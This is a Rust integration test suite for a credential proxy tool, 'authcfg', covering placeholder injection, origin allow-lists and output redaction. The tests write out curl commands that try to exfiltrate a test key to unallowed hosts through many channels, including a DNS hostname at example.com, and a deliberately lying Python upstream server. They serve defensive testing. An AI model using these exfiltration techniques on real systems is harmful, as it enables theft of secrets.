//! `authcfg exec --placeholders`: the child holds placeholders; the proxy
//! authcfg runs on 127.0.0.1 puts the real values into requests to the
//! configs' allowed origins only, with real clients (curl, Python) against
//! real nginx upstreams (TLS with a test CA, and plain http on loopback).
//! Every refusal is checked at the destination: nothing arrived there.
//! `exec --mask`: the child's output through the redactor.
//!
//! Node 20 (this machine's) has no NODE_USE_ENV_PROXY: its fetch ignores
//! the proxy variables, so it is not tested here (it behaves as the
//! "client that ignores the proxy" case: it holds only placeholders).

use crate::support::echo;
use crate::support::pki::{s, Pki};
use crate::support::services::silent_listener;
use crate::support::tls_services::nginx_origins;
use crate::support::*;

/// `exec --placeholders [extra] NAMES -- sh -c SCRIPT`: (exit code, stdout, stderr).
fn run(t: &T, extra: &[&str], names: &[&str], script: &str) -> (i32, String, String) {
    let mut c = t.std_cmd();
    c.args(["exec", "--placeholders"])
        .args(extra)
        .args(names)
        .args(["--", "sh", "-c", script]);
    // A no_proxy entry for loopback would send the child around the proxy.
    c.env("no_proxy", "127.0.0.1,localhost")
        .env("NO_PROXY", "127.0.0.1,localhost");
    let out = c.output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// Nothing connected to `l` (it never accepted a connection).
fn nothing_arrived(l: &std::net::TcpListener) {
    l.set_nonblocking(true).unwrap();
    match l.accept() {
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
        Ok((_, from)) => panic!("a connection arrived from {from}"),
        Err(e) => panic!("{e}"),
    }
}

const PYTHON: &str = r#"
import os, sys, json
key = os.environ["WEB_API_KEY"]
def call(url, body=None):
    try:
        import requests
        r = requests.post(url, json=body) if body is not None else requests.get(url, headers={"X-API-Key": key})
        return "requests %d" % r.status_code
    except ImportError:
        import urllib.request, urllib.error
        req = urllib.request.Request(url, headers={"X-API-Key": key})
        if body is not None:
            req = urllib.request.Request(url, data=json.dumps(body).encode(), headers={"Content-Type": "application/json"})
        try:
            return "urllib %d" % urllib.request.urlopen(req).status
        except urllib.error.HTTPError as e:
            return "urllib %d" % e.code
print("py-a", call(sys.argv[1] + "/header"))
print("py-b", call(sys.argv[2] + "/landing", {"k": key}))
"#;

#[test]
fn curl_and_python_use_the_real_key_at_the_allowed_origin_only() {
    let t = T::new();
    t.init();
    let key = "key-Proxy-Real-5521";
    let pki = Pki::new("proxy");
    let web = nginx_origins(&pki.server("web", &["127.0.0.1"]), &pki.ca, key);
    t.add(
        "api-key",
        "web",
        &[
            &format!("test_url={}/header", web.a),
            "key_name=X-API-Key",
            &format!("tls_ca={}", s(&pki.ca)),
        ],
        Some(("api_key", key)),
    )
    .success();
    let py = t.dir.path().join("client.py");
    std::fs::write(&py, PYTHON).unwrap();
    let env_file = t.dir.path().join("env.txt");
    let script = format!(
        "env > {env}; \
         echo curl-a $(curl -sS -o /dev/null -w '%{{http_code}}' -H \"X-API-Key: $WEB_API_KEY\" {a}/header); \
         echo curl-b $(curl -sS -o /dev/null -w '%{{http_code}}' -H \"X-API-Key: $WEB_API_KEY\" {b}/landing); \
         echo pass-a $(curl -sS -o /dev/null -w '%{{http_code}}' {a}/nothing); \
         python3 {py} {a} {b}; \
         export GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null GIT_TERMINAL_PROMPT=0; \
         echo git-a $(git -c \"http.extraHeader=X-API-Key: $WEB_API_KEY\" ls-remote {a}/repo.git 2>&1); \
         echo git-b $(git -c \"http.extraHeader=X-API-Key: $WEB_API_KEY\" ls-remote {b}/repo.git 2>&1)",
        env = env_file.display(),
        a = web.a,
        b = web.b,
        py = py.display(),
    );
    let (code, out, err) = run(&t, &[], &["web"], &script);
    assert_eq!(code, 0, "{out}\n{err}");
    // Origin A checks the real key: it got it, through the proxy.
    assert!(out.contains("curl-a 200"), "{out}\n{err}");
    assert!(
        out.contains("py-a requests 200") || out.contains("py-a urllib 200"),
        "{out}\n{err}"
    );
    // A request without a placeholder to A goes through unchanged,
    // verified with the config's CA (nginx's 404, not the proxy's 502).
    assert!(out.contains("pass-a 404"), "{out}\n{err}");
    // Origin B is not allowed: refused by the proxy, nothing arrived.
    assert!(out.contains("curl-b 403"), "{out}\n{err}");
    assert!(
        out.contains("py-b requests 403") || out.contains("py-b urllib 403"),
        "{out}"
    );
    // git over https: trusts the per-run CA (GIT_SSL_CAINFO), reaches A
    // (which has no repository: 404), is refused at B.
    assert!(
        out.lines()
            .any(|l| l.starts_with("git-a ") && l.contains("not found")),
        "{out}\n{err}"
    );
    assert!(
        out.lines()
            .any(|l| l.starts_with("git-b ") && l.contains("403")),
        "{out}\n{err}"
    );
    let b_log = std::fs::read_to_string(&web.b_log).unwrap_or_default();
    assert!(!b_log.contains("REQ"), "origin B got a request:\n{b_log}");
    // Reported once (two requests, one origin), and audited.
    assert_eq!(
        err.matches("refused a request of the command").count(),
        1,
        "{err}"
    );
    assert!(
        err.contains(&web.b) && err.contains("not an allowed origin of 'web'"),
        "{err}"
    );
    let log = t.stdout(&["log"]);
    assert!(
        log.lines()
            .any(|l| l.contains("refused") && l.contains(&web.b) && l.contains("exec:sh")),
        "{log}"
    );
    // The child's environment: placeholders, the proxy, the CA; no
    // no_proxy; never the key.
    let env = std::fs::read_to_string(&env_file).unwrap();
    assert!(!env.contains(key), "{env}");
    assert!(env.contains("WEB_API_KEY=authcfg-ph-web-api_key-"), "{env}");
    for v in [
        "https_proxy=http://authcfg:",
        "HTTP_PROXY=http://authcfg:",
        "@127.0.0.1:",
        "REQUESTS_CA_BUNDLE=",
        "SSL_CERT_FILE=",
    ] {
        assert!(env.contains(v), "{v}: {env}");
    }
    assert!(!env.to_ascii_lowercase().contains("no_proxy="), "{env}");
    // The CA file is gone with the command.
    let ca_line = env
        .lines()
        .find(|l| l.starts_with("SSL_CERT_FILE="))
        .unwrap();
    assert!(!std::path::Path::new(&ca_line["SSL_CERT_FILE=".len()..]).exists());
    // The usage log names the child and the origin it reached.
    let show = t.stdout(&["show", "web"]);
    assert!(show.contains("exec:sh"), "{show}");
    assert!(
        show.contains("exec via proxy to https://127.0.0.1"),
        "{show}"
    );

    // A client that ignores the proxy reaches B directly: with the
    // placeholder only (B's log records the header; the check above could
    // have failed).
    let script = format!(
        "curl -sS -o /dev/null --noproxy '*' --cacert {ca} -H \"X-API-Key: $WEB_API_KEY\" {b}/landing",
        ca = s(&pki.ca),
        b = web.b
    );
    let (code, out, err) = run(&t, &[], &["web"], &script);
    assert_eq!(code, 0, "{out}\n{err}");
    // nginx writes its access log after the answer is sent: the client may
    // be gone first (bounded wait for the line).
    let mut b_log = String::new();
    for _ in 0..100 {
        b_log = std::fs::read_to_string(&web.b_log).unwrap_or_default();
        if b_log.contains("key=[") {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    assert!(b_log.contains("key=[authcfg-ph-web-api_key-"), "{b_log}");
    assert!(!b_log.contains(key), "{b_log}");
}

#[test]
fn plain_http_loopback_every_place_a_secret_goes_and_the_answer_is_redacted() {
    let t = T::new();
    t.init();
    let (key, token, user, password) = (
        "key-Ph-Echo-8812",
        "tok-Ph-Echo-3391",
        "alice",
        "pw-Ph-Echo-7710",
    );
    let e = echo::start(key, token, user, password);
    echo::add_configs(&t, &e, key, token, user, password);
    let a = &e.a;
    let script = format!(
        "c() {{ curl -sS -w ' code=%{{http_code}}\\n' \"$@\"; }}; \
         c -H \"X-API-Key: $KEY_API_KEY\" {a}/key; \
         c \"{a}/query?api_key=$QUERY_API_KEY\"; \
         c -b \"session=$COOKIE_API_KEY\" {a}/cookie; \
         c -H \"Authorization: Bearer $BEARER_TOKEN\" {a}/bearer; \
         c -u \"$BASIC_USERNAME:$BASIC_PASSWORD\" {a}/basic; \
         c -H 'Content-Type: application/json' -d \"{{\\\"k\\\": \\\"$KEY_API_KEY\\\"}}\" -H \"X-API-Key: $KEY_API_KEY\" {a}/key"
    );
    let (code, out, err) = run(
        &t,
        &[],
        &["key", "query", "cookie", "bearer", "basic"],
        &script,
    );
    assert_eq!(code, 0, "{out}\n{err}");
    assert_eq!(
        out.matches("code=200").count(),
        6,
        "{out}\n{err}\n{}",
        e.a_log()
    );
    // The echo put the real values in the answer: redacted on the way back.
    for secret in [key, token, password] {
        assert!(!out.contains(secret), "{secret}: {out}");
    }
    assert!(out.contains("key=[[REDACTED:"), "{out}");
    assert!(
        out.contains("auth=[Bearer [REDACTED:bearer/token]]"),
        "{out}"
    );
    assert!(
        out.contains("auth=[Basic [REDACTED:basic/password]]"),
        "{out}"
    );
    // The server saw the real values (its log), so the 200s mean it.
    let a_log = e.a_log();
    assert!(a_log.contains(&format!("key=[{key}]")), "{a_log}");
    assert!(!a_log.contains("authcfg-ph-"), "{a_log}");
}

#[test]
fn attacks_are_refused_before_anything_leaves() {
    let t = T::new();
    t.init();
    let (key, token, user, password) = ("key-Ph-Att-4417", "tok-Ph-Att-1", "bob", "pw-Ph-Att-2");
    let e = echo::start(key, token, user, password);
    echo::add_configs(&t, &e, key, token, user, password);
    let (l, lp) = silent_listener();
    let other = format!("http://127.0.0.1:{lp}");
    t.add(
        "api-key",
        "far",
        &[&format!("test_url={other}/x"), "key_name=X-API-Key"],
        Some(("api_key", "far-Secret-00017")),
    )
    .success();
    let a = &e.a;
    // Each line prints its name and the proxy's answer.
    let script = format!(
        "c() {{ n=$1; shift; echo \"$n $(curl -sS -m 10 -o /dev/null -w '%{{http_code}}' \"$@\")\"; }}; \
         c header -H \"X-API-Key: $KEY_API_KEY\" {other}/; \
         c basic -u \"x:$KEY_API_KEY\" {other}/; \
         c query \"{other}/?k=$(printf %s \"$KEY_API_KEY\" | sed 's/-/%2D/g')\"; \
         c chunked -H 'Transfer-Encoding: chunked' -H 'Content-Type: application/json' --data-binary \"{{\\\"k\\\":\\\"$KEY_API_KEY\\\"}}\" {other}/; \
         c form --data-urlencode \"k=$KEY_API_KEY\" {other}/; \
         printf %s \"$KEY_API_KEY\" | gzip > $HOME/body.gz; \
         c gzip -H 'Content-Encoding: gzip' --data-binary @$HOME/body.gz {other}/; \
         c host -H \"Host: 127.0.0.1:{lp}\" -H \"X-API-Key: $KEY_API_KEY\" {a}/key; \
         c websocket -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H \"X-API-Key: $KEY_API_KEY\" {a}/key; \
         c h2c --http2 -H \"X-API-Key: $KEY_API_KEY\" {other}/; \
         c redirect -L --location-trusted -H \"X-API-Key: $KEY_API_KEY\" {a}/away; \
         c crossconfig -H \"X-API-Key: $FAR_API_KEY\" {a}/key; \
         echo dns $(curl -sS -o /dev/null -w '%{{http_connect}}' https://$KEY_API_KEY.example.com/ 2>/dev/null); \
         c plainhost http://$KEY_API_KEY.example.com/"
    );
    let before = e.a_requests();
    let (code, out, err) = run(&t, &[], &["key", "far"], &script);
    assert_eq!(code, 0, "{out}\n{err}");
    for (name, want) in [
        ("header", "403"),
        ("basic", "403"),
        ("query", "403"),
        ("chunked", "403"),
        ("form", "403"),
        ("gzip", "415"),
        ("host", "421"),
        ("websocket", "403"),
        ("h2c", "403"),
        // A's redirect to B is followed by curl with the header; the proxy
        // refuses the second hop.
        ("redirect", "403"),
        // The placeholder of a config allowed elsewhere, sent to A.
        ("crossconfig", "403"),
        // A placeholder in a host name (a DNS query would carry it).
        ("dns", "403"),
        ("plainhost", "403"),
    ] {
        assert!(
            out.lines().any(|l| l == format!("{name} {want}")),
            "{name}: want {want}\n{out}\n{err}"
        );
    }
    nothing_arrived(&l);
    // A got only the /away request of the redirect; the Host, upgrade and
    // other config's attempts never reached it.
    assert_eq!(e.a_requests(), before + 1, "{}", e.a_log());
    assert!(!e.b_log().contains("REQ"), "{}", e.b_log());
    assert!(err.contains("refused a request of the command"), "{err}");
    assert!(!err.contains(key) && !out.contains(key));
    let log = t.stdout(&["log"]);
    assert!(
        log.lines()
            .filter(|l| l.contains("refused") && l.contains("key"))
            .count()
            >= 5,
        "{log}"
    );
}

#[test]
fn deny_other_refuses_destinations_without_placeholders() {
    let t = T::new();
    t.init();
    let e = echo::start("key-Ph-Deny-1234", "t-1234", "u", "p-1234");
    echo::add_configs(&t, &e, "key-Ph-Deny-1234", "t-1234", "u", "p-1234");
    let script = format!(
        "echo b $(curl -sS -o /dev/null -w '%{{http_code}}' {b}/landing)",
        b = e.b
    );
    // Without --deny-other a request with no placeholder goes through.
    let (code, out, err) = run(&t, &[], &["key"], &script);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("b 200"), "{out}\n{err}");
    let seen = e.b_log().matches("REQ").count();
    assert_eq!(seen, 1, "{}", e.b_log());
    // With it, refused: B sees nothing more.
    let (code, out, err) = run(&t, &["--deny-other"], &["key"], &script);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("b 403"), "{out}\n{err}");
    assert_eq!(e.b_log().matches("REQ").count(), seen);
    assert!(err.contains("--deny-other"), "{err}");
}

#[test]
fn mask_replaces_secrets_in_the_childs_output_split_across_writes() {
    let t = T::new();
    t.init();
    let key = "key-Mask-Split-99120";
    t.add(
        "api-key",
        "k",
        &["test_url=https://api.example.com/", "key_name=X-Key"],
        Some(("api_key", key)),
    )
    .success();
    // The plain exec hands the key (so the checks below could fail).
    assert_eq!(
        t.stdout(&["exec", "k", "--", "printenv", "K_API_KEY"])
            .trim(),
        key
    );
    let script = r#"
import os, sys, base64
k = os.environ["K_API_KEY"]
sys.stdout.write("a " + k[:7]); sys.stdout.flush()
sys.stdout.write(k[7:] + " b\n"); sys.stdout.flush()
sys.stdout.write(base64.b64encode(("u:" + k).encode()).decode() + "\n")
sys.stderr.write("err " + k + "\n")
sys.exit(7)
"#;
    let out = t
        .cmd()
        .args(["exec", "--mask", "k", "--", "python3", "-c", script])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(7));
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_clean("stdout", &out.stdout, &[key]);
    assert_clean("stderr", &out.stderr, &[key]);
    assert!(stdout.starts_with("a [REDACTED:k/api_key] b\n"), "{stdout}");
    assert_eq!(
        stdout.matches("[REDACTED:k/api_key]").count(),
        2,
        "{stdout}"
    );
    assert!(stderr.contains("err [REDACTED:k/api_key]"), "{stderr}");
}

#[test]
fn a_project_files_variables_get_placeholders_too() {
    let t = T::new();
    t.init();
    let key = "sk_live_Project0Secret77";
    t.add(
        "api-key",
        "svc/pay",
        &["test_url=https://api.example.com/"],
        Some(("api_key", key)),
    )
    .success();
    let repo = t.dir.path().join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    std::fs::write(
        repo.join(".authcfg.toml"),
        "[env]\nPAY_KEY = \"authcfg://svc/pay/api_key\"\nLOG_LEVEL = \"debug\"\n",
    )
    .unwrap();
    t.cmd()
        .current_dir(&repo)
        .args(["project", "allow"])
        .assert()
        .success();
    let out = t
        .cmd()
        .current_dir(&repo)
        .args([
            "exec",
            "--placeholders",
            "--",
            "sh",
            "-c",
            "echo \"$PAY_KEY $LOG_LEVEL\"",
        ])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        stdout.starts_with("sk_live_authcfg-ph-svc_pay-api_key-") && stdout.ends_with(" debug\n"),
        "{stdout}"
    );
    assert_clean("stdout", &out.stdout, &[key]);
}

/// A prompt reaches the user while the masked command waits for input
/// (what is held back is shown once the command pauses).
#[test]
fn mask_shows_a_prompt_while_the_command_waits() {
    use std::io::{Read, Write};
    let t = T::new();
    t.init();
    t.add(
        "api-key",
        "k",
        &["test_url=https://api.example.com/"],
        Some(("api_key", "key-Mask-Prompt-5150")),
    )
    .success();
    let mut child = t
        .std_cmd()
        .args([
            "exec",
            "--mask",
            "k",
            "--",
            "sh",
            "-c",
            "printf 'Password: '; read x; echo \"got $x $K_API_KEY\"",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdout = child.stdout.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut buf = [0u8; 256];
        while let Ok(n) = stdout.read(&mut buf) {
            if n == 0 || tx.send(buf[..n].to_vec()).is_err() {
                break;
            }
        }
    });
    let mut seen = vec![];
    while !seen.ends_with(b"Password: ") {
        let piece = rx
            .recv_timeout(std::time::Duration::from_secs(10))
            .expect("the prompt was held back while the command waited");
        seen.extend(piece);
    }
    child.stdin.take().unwrap().write_all(b"abc\n").unwrap();
    while let Ok(piece) = rx.recv_timeout(std::time::Duration::from_secs(10)) {
        seen.extend(piece);
    }
    assert!(child.wait().unwrap().success());
    assert_eq!(
        String::from_utf8_lossy(&seen),
        "Password: got abc [REDACTED:k/api_key]\n"
    );
}

/// A lying upstream at an allowed origin, and another local user: what the
/// third attack on the proxy found (red team 3), each refused or cleaned.
/// P1: the reason phrase echoing the credential; P2: a Host the check reads
/// as the target but a virtual host would not; P3: the proxy used without
/// the run's credential; P4: a gzip transfer coding; P5: the secret as a
/// header name; P6: a value stored through a placeholder, read back by a
/// request without one.
#[test]
fn a_lying_upstream_and_another_user_get_nothing() {
    const KEY: &str = "sk_live_RedTeam3Secret9876abc";
    let dir = tempfile::tempdir().unwrap();
    let server = dir.path().join("srv.py");
    std::fs::write(
        &server,
        r#"
import http.server, sys, gzip
STORE = {}
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def log_message(self, *a): pass
    def reply(self, body, status=200, reason=None, extra=()):
        self.send_response(status, reason)
        for k, v in extra: self.send_header(k, v)
        self.send_header("content-length", str(len(body)))
        self.end_headers(); self.wfile.write(body)
    def do_ANY(self):
        n = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(n) if n else b""
        auth = self.headers.get("authorization", "")
        token = auth.split(" ")[-1]
        p = self.path
        if p.startswith("/reason"): return self.reply(b"ok", 200, "R " + auth)
        if p.startswith("/hname"): return self.reply(b"ok", extra=[("x-" + token, "1")])
        if p.startswith("/store"): STORE["x"] = body; return self.reply(b"stored")
        if p.startswith("/get"): return self.reply(STORE.get("x", b"none"))
        if p.startswith("/host"): return self.reply(("host=" + self.headers.get("host", "")).encode())
        if p.startswith("/tegzip"):
            z = gzip.compress(("x=" + auth).encode())
            self.send_response(200)
            self.send_header("transfer-encoding", "gzip, chunked"); self.end_headers()
            self.wfile.write(b"%x\r\n" % len(z) + z + b"\r\n0\r\n\r\n"); return
        return self.reply(b"?")
    do_GET = do_POST = do_ANY
s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
sys.stderr.write("READY %d\n" % s.server_address[1]); sys.stderr.flush()
s.serve_forever()
"#,
    )
    .unwrap();
    let mut child = std::process::Command::new("python3")
        .arg(&server)
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(
        &mut std::io::BufReader::new(child.stderr.take().unwrap()),
        &mut line,
    )
    .unwrap();
    let _guard = services::Guard(child);
    let port: u16 = line.trim().strip_prefix("READY ").unwrap().parse().unwrap();
    let origin = format!("http://127.0.0.1:{port}");
    let t = T::new();
    t.init();
    t.add(
        "bearer",
        "api",
        &[&format!("allowed_origins={origin}")],
        Some(("token", KEY)),
    )
    .success();
    let out = dir.path();
    let script = format!(
        r#"H="Authorization: Bearer $API_TOKEN"
curl -si {origin}/reason -H "$H" > {o}/p1
curl -s {origin}/host -H "Host: 127.1:{port}" -H "$H" > {o}/p2
curl -s -D {o}/p5 -o /dev/null {origin}/hname -H "$H"
curl -s -X POST {origin}/store --data-binary "x=$API_TOKEN" -H 'content-type: text/plain' > /dev/null
curl -s {origin}/get > {o}/p6
curl -s --tr-encoding {origin}/tegzip -H "$H" > {o}/p4 2>&1
proxy=$(printf %s "$http_proxy" | sed 's|.*@||')
curl -s -o /dev/null -w '%{{http_code}}' -x "http://$proxy" {origin}/get -H "$H" > {o}/p3
true"#,
        o = out.display()
    );
    let (code, _, stderr) = run(&t, &[], &["api"], &script);
    assert_eq!(code, 0, "{stderr}");
    let read = |f: &str| std::fs::read_to_string(out.join(f)).unwrap_or_default();
    for f in ["p1", "p2", "p4", "p5", "p6"] {
        assert!(!read(f).contains(KEY), "{f}: {}", read(f));
        assert!(
            !read(f)
                .to_ascii_lowercase()
                .contains(&KEY.to_ascii_lowercase()),
            "{f}"
        );
    }
    // P1: the request reached the origin with the real key (the reason
    // phrase was it) and came back without it.
    assert!(read("p1").starts_with("HTTP/1.1 200"), "{}", read("p1"));
    // P2: the upstream saw the target's own authority, not the child's.
    assert_eq!(read("p2"), format!("host=127.0.0.1:{port}"));
    // P3: without the run's credential the proxy serves nobody.
    assert_eq!(read("p3"), "407");
    // P6: what was stored through the placeholder reads back redacted.
    assert!(read("p6").contains("[REDACTED"), "{}", read("p6"));
}
